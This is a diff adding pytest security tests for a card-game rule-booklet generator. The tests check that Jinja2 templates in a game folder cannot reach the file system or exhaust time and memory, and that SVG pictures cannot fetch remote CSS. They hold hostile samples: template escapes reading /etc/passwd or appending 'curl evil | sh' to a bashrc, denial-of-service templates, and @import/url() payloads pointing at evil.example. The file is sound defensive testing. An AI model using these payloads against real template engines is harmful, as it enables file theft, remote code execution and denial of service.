@@ -1,0 +1,304 @@
+"""A game folder is data: its templates see plain data only, and their work is bounded.
+
+The attacker's templates of the game-folder review are the cases here: each one read or
+wrote the user's files through a Path in the context, or ran for minutes or took
+gigabytes in one line. Every context any template of any game receives is walked too.
+"""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import jinja2
+import pytest
+from hostile import PACKAGE_ROOT, assert_refused, run, snapshot, temporaries
+from markupsafe import Markup
+
+from sheetgen import templating
+from sheetgen.booklet import render_html
+from sheetgen.errors import GameDefinitionError
+from sheetgen.games import load_game, use_rules_dirs
+from sheetgen.houserules import resolve
+from sheetgen.language import Language
+from sheetgen.paper import A4, LETTER
+from sheetgen.pictures import check_picture
+from sheetgen.templating import make_environment, render_string, template_data
+
+BOX = "sections/01-box.md"
+GAMES = ("skip-bo", "spite-and-malice", "skip-bo-board")
+PLAIN = (str, Markup, int, float, bool, type(None))
+
+
+@pytest.fixture
+def games(tmp_path: Path) -> Path:
+    """A folder of games holding ``evil``, a copy of Skip-Bo to be spoilt."""
+    root = tmp_path / "games"
+    shutil.copytree(PACKAGE_ROOT / "rules" / "skip-bo", root / "evil")
+    return root
+
+
+def booklet_refused(games: Path, template: str, problem: str) -> None:
+    """The section template ``template`` stops ``sheetgen rules`` with ``problem`` on its
+    line, and nothing is written or changed."""
+    box = games / "evil" / BOX
+    line = box.read_text(encoding="utf-8").count("\n") + 1
+    with box.open("a", encoding="utf-8") as handle:
+        handle.write(template + "\n")
+    before = snapshot(games.parent)
+    done = run(
+        ["--rules-dir", str(games), "rules", "--game", "evil", "-o", "out.html"], games.parent
+    )
+    assert_refused(done, f"{box}, line {line}: template error: {problem}")
+    assert snapshot(games.parent) == before
+    assert temporaries(games.parent) == []
+
+
+# 1: the context holds no Path, so no template reaches the file system.
+
+
+@pytest.mark.parametrize(
+    ("template", "problem"),
+    [
+        (
+            "{{ game.folder.joinpath('/etc/passwd').read_text() }}",
+            "'dict object' has no attribute 'folder'",
+        ),
+        (
+            "{{ rules.definition.folder.joinpath('notes').write_text('owned') }}",
+            "'dict object' has no attribute 'definition'",
+        ),
+        (
+            "{{ game.preset_path('family').read_text() }}",
+            "'dict object' has no attribute 'preset_path'",
+        ),
+        ("{{ rules.extra.read_text() }}", "'bool object' has no attribute 'read_text'"),
+        (
+            "{{ official.definition.folder.iterdir() | list }}",
+            "'dict object' has no attribute 'definition'",
+        ),
+        (
+            "{{ deck.words.__class__ }}",
+            "access to attribute '__class__' of 'dict' object is unsafe.",
+        ),
+    ],
+    ids=["read", "write", "preset-path", "extra", "list", "class"],
+)
+def test_a_template_cannot_reach_the_file_system(games: Path, template: str, problem: str) -> None:
+    booklet_refused(games, template, problem)
+
+
+def test_the_attackers_append_to_a_victims_file_does_nothing(games: Path, tmp_path: Path) -> None:
+    victim = tmp_path / "bashrc"
+    victim.write_text("# mine\n", encoding="utf-8")
+    template = (
+        "{{ game.folder.joinpath('%s').open('a').write('curl evil | sh') }}" % victim  # noqa: UP031
+    )
+    booklet_refused(games, template, "'dict object' has no attribute 'folder'")
+    assert victim.read_text(encoding="utf-8") == "# mine\n"
+
+
+def _walk(value: Any, where: str) -> Iterator[str]:
+    """Where ``value`` holds anything but plain data."""
+    if isinstance(value, dict):
+        for key, item in value.items():
+            if type(key) not in (str, int):
+                yield f"{where} key {key!r}"
+            yield from _walk(item, f"{where}[{key!r}]")
+    elif isinstance(value, list):
+        for number, item in enumerate(value):
+            yield from _walk(item, f"{where}[{number}]")
+    elif type(value) not in PLAIN:
+        yield f"{where}: {type(value).__name__}"
+
+
+@pytest.fixture
+def contexts(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
+    """Every set of values handed to a template (jinja2 makes each render's context in
+    Template.new_context: files, sentences and ``when`` expressions alike)."""
+    seen: list[dict[str, Any]] = []
+    real = jinja2.Template.new_context
+
+    def recording(self: jinja2.Template, vars: Any = None, *args: Any, **kwargs: Any) -> Any:
+        # An include hands on everything its parent sees, the Environment's own globals
+        # (range, the gettext functions) among them: those are sheetgen's, not data.
+        own = self.environment.globals
+        seen.append(
+            {key: value for key, value in (vars or {}).items() if own.get(key) is not value}
+        )
+        return real(self, vars, *args, **kwargs)
+
+    monkeypatch.setattr(jinja2.Template, "new_context", recording)
+    return seen
+
+
+def _cases() -> list[tuple[str, str | None, dict[str, Any], str]]:
+    cases: list[tuple[str, str | None, dict[str, Any], str]] = []
+    for game_id in (*GAMES, "pocket-bo"):
+        folder = PACKAGE_ROOT / ("tests/games" if game_id == "pocket-bo" else "rules") / game_id
+        presets = sorted(path.stem for path in (folder / "presets").glob("*.toml"))
+        for preset in (None, *presets):
+            for lang in ("en", "de") if (folder / "de").is_dir() else ("en",):
+                cases.append((game_id, preset, {}, lang))
+    heavy = {"players": 6, "partnerships": True, "stock": "short", "deck": "standard"}
+    cases.append(("skip-bo", None, heavy, "en"))
+    return cases
+
+
+@pytest.mark.parametrize(("game", "preset", "options", "lang"), _cases())
+def test_every_context_of_every_game_is_plain_data(
+    contexts: list[dict[str, Any]],
+    tmp_path: Path,
+    game: str,
+    preset: str | None,
+    options: dict[str, Any],
+    lang: str,
+) -> None:
+    use_rules_dirs([PACKAGE_ROOT / "tests" / "games"])
+    try:
+        rules = resolve(game=game, preset=preset, options=options)
+        for screen in (False, True):
+            render_html(
+                rules,
+                paper=A4 if lang == "de" else LETTER,
+                extra_markdown="# Our table\n\nWe play to the end.\n",
+                screen=screen,
+                lang=Language(lang),
+            )
+    finally:
+        use_rules_dirs([])
+    assert len(contexts) > 10  # sections, sentences, pictures, examples and the page
+    problems = [problem for context in contexts for problem in _walk(context, "context")]
+    assert problems == []
+
+
+def test_template_data_refuses_what_is_not_plain() -> None:
+    with pytest.raises(TypeError, match=r"context\['game'\]\['folder'\] is a PosixPath"):
+        template_data({"game": {"folder": Path("/etc")}})
+    with pytest.raises(TypeError, match=r"context\['game'\]\['folder'\] is a PosixPath"):
+        template_data({"game": load_game("skip-bo")})
+    with pytest.raises(TypeError, match=r"context\['f'\] is a builtin_function_or_method"):
+        template_data({"f": open})
+    assert template_data({"n": (1, 2), "s": frozenset({"b", "a"})}) == {
+        "n": [1, 2],
+        "s": ["a", "b"],
+    }
+
+
+# 5: the work of a template is bounded: time, memory and what it writes.
+
+BOUNDED = [
+    (
+        "{% for a in 'x' * 900000 %}{% for b in 'x' * 900000 %}{% endfor %}{% endfor %}",
+        "the templates ask for more than 20,000,000 steps of work in all",
+    ),
+    ("{{ lipsum(100000, false, 100000, 100000) }}", "'lipsum' is undefined"),
+    (
+        "{% set ns = namespace(s='x' * 1000) %}{% for i in range(40) %}"
+        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
+        "a text longer than 1,000,000 characters",
+    ),
+    ("{{ '%0900000000d' % 1 }}", "a %-format wider than 1,000,000 characters"),
+    ("{{ '%*d' % (900000000, 1) }}", "a %-format may not take its width from its values"),
+    ("{{ _('%(n)0900000000d', n=1) }}", "a %-format wider than 1,000,000 characters"),
+    ("{{ '{:>999999999}'.format(1) }}", "access to attribute 'format' of 'str' object is unsafe."),
+    ("{{ 'x' | center(99999) }}", "No filter named 'center'."),
+    ("{{ 'x' | indent(99999) }}", "No filter named 'indent'."),
+    ("{{ ('x' * 100000).replace('x', 'y' * 100000) }}", "a text longer than 1,000,000 characters"),
+    (
+        "{{ ('x' * 100000) | replace('x', 'y' * 100000) }}",
+        "a text longer than 1,000,000 characters",
+    ),
+    ("{{ ','.join(['x' * 100000] * 10) }}", "a text longer than 1,000,000 characters"),
+    ("{{ (['x' * 100000] * 10) | join(',') }}", "a text longer than 1,000,000 characters"),
+    (
+        "{% set ns = namespace(l=[]) %}{% for i in range(100000) %}"
+        "{% set ns.l = ns.l + ['x' * 100000] %}{% endfor %}",
+        "the templates ask for more than 20,000,000 steps of work in all",
+    ),
+    (
+        "{% macro m(n) %}{{ 'x' * 100000 }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
+        "the template asks for more work or memory than a booklet can need",
+    ),
+]
+
+
+@pytest.mark.parametrize(("template", "problem"), BOUNDED)
+def test_a_templates_work_is_bounded(tmp_path: Path, template: str, problem: str) -> None:
+    (tmp_path / "s.md").write_text(template, encoding="utf-8")
+    env = make_environment([tmp_path])
+    with pytest.raises(GameDefinitionError) as refused:
+        templating.render_template(env, "s.md", {})
+    assert str(refused.value) == f"{tmp_path / 's.md'}, line 1: template error: {problem}"
+
+
+@pytest.mark.parametrize(("template", "problem"), BOUNDED[:2])
+def test_a_game_folder_that_runs_away_is_one_message(
+    games: Path, template: str, problem: str
+) -> None:
+    booklet_refused(games, template, problem)
+
+
+def test_what_one_render_writes_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(templating, "MAX_OUTPUT", 5000)
+    (tmp_path / "s.md").write_text("{% for i in range(100) %}{{ 'x' * 100 }}{% endfor %}")
+    env = make_environment([tmp_path])
+    with pytest.raises(GameDefinitionError, match="a template writes more than 5,000 characters"):
+        templating.render_template(env, "s.md", {})
+
+
+def test_a_render_has_a_time_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(templating, "MAX_SECONDS", 0.0)
+    env = make_environment([tmp_path])
+    with pytest.raises(GameDefinitionError, match="the templates take longer than 0 seconds"):
+        render_string(env, "{% for i in range(10) %}{{ i }}{% endfor %}", {})
+
+
+def test_the_bounds_leave_a_real_booklet_alone(tmp_path: Path) -> None:
+    env = make_environment([tmp_path])
+    text = render_string(
+        env,
+        "{% for w in words | sort %}{{ loop.index }}. {{ w | upper ~ '!' }} {% endfor %}"
+        "{{ '%d%%' % 100 }} {{ 'a-b'.replace('-', ' ') }} {{ ', '.join(words) }}",
+        {"words": ["b", "a"]},
+    )
+    assert text == "1. A! 2. B! 100% a b b, a"
+
+
+# 4: a picture's CSS is read as CSS, and the HTML booklet fetches nothing.
+
+SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+
+
+@pytest.mark.parametrize(
+    ("inside", "named"),
+    [
+        ("<style><g/>@import url(https://evil.example/x.css);</style>", "a <g> inside a <style>"),
+        ("<style>.a{fill:red}<tspan/>@import 'x';</style>", "a <tspan> inside a <style>"),
+        ("<style>.a { fill: image-set('x.png' 1x) }</style>", "the CSS function image-set()"),
+        ('<rect style="fill: url(&quot;https://evil.example/&quot;)"/>', "that fetches or escapes"),
+        ("<style>.a { fill: url('https://evil.example/') }</style>", "that fetches or escapes"),
+    ],
+)
+def test_a_pictures_css_is_read_as_css(inside: str, named: str) -> None:
+    with pytest.raises(GameDefinitionError) as refused:
+        check_picture(f"{SVG_OPEN}{inside}</svg>", "p.svg.j2")
+    assert named in str(refused.value)
+
+
+def test_a_picture_may_name_its_own_parts() -> None:
+    drawing = (
+        f"{SVG_OPEN}<style>.a {{ fill: url('#p'); stroke: rgb(0, 0, 0) }}</style>"
+        '<rect class="a" style="fill: url(#p)"/></svg>'
+    )
+    assert check_picture(drawing, "p.svg.j2") is drawing
+
+
+def test_the_html_booklet_forbids_every_fetch(tmp_path: Path) -> None:
+    html = render_html(resolve(game="skip-bo"), paper=LETTER, screen=True)
+    head = html[: html.index("</head>")]
+    policy = "default-src 'none'; style-src 'unsafe-inline'; font-src data:; img-src data:"
+    assert f'<meta http-equiv="Content-Security-Policy" content="{policy};' in head
+    assert head.index("Content-Security-Policy") < head.index("<style>")
